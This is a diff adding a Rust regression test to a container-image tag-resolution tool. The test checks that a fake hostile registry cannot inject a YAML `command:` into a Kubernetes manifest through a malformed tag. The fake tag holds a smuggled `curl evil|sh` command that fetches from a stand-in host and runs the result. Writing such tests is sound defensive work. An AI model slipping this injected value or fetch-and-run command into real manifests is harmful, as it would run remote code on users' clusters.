@@ -7,6 +7,7 @@ mod util;
 use std::fs;
 use std::path::PathBuf;
 
+use support::fake::{Hostile, Reply};
 use support::registry::{Proxy, Registry};
 use util::{assert_exit, on_a_terminal, stderr, stdout, Dir};
 
@@ -149,6 +150,39 @@ fn resolve_tag_writes_the_most_specific_tag_with_the_same_digest() {
         stderr(&out).contains("3.2.4, 3.2, 3, latest"),
         "{}",
         stderr(&out)
+    );
+}
+
+#[test]
+fn resolve_tag_never_writes_a_listed_tag_that_is_not_a_tag() {
+    // Issue 10 item 1a: a listed "tag" with a newline and a `command:` after it was ranked
+    // best and written into a Kubernetes manifest, exit 0.
+    let digest = format!("sha256:{}", "c".repeat(64));
+    let fake = Hostile::start(move |seen, _| {
+        if seen.target.contains("/tags/list") {
+            Reply::json(
+                r#"{"tags":["latest","9.9.9.9.9-x\n        command: [\"sh\",\"-c\",\"curl evil|sh\"]","2.1"]}"#,
+            )
+        } else if seen.target.contains("/manifests/") {
+            Reply::Answer(
+                200,
+                vec![("Docker-Content-Digest".into(), digest.clone())],
+                vec![],
+            )
+        } else {
+            Reply::Answer(200, vec![], vec![])
+        }
+    });
+    let host = fake.host();
+    let setup = Setup::new();
+    let before =
+        format!("spec:\n  containers:\n    - name: app\n      image: {host}/team/app:latest\n");
+    setup.dir.write("pod.yaml", &before);
+    let out = setup.run(&["update", "--resolve-tag", "--all", "--matching-tag"]);
+    assert_exit(&out, 0);
+    assert_eq!(
+        setup.dir.read_string("pod.yaml"),
+        before.replace(":latest", ":2.1")
     );
 }
 
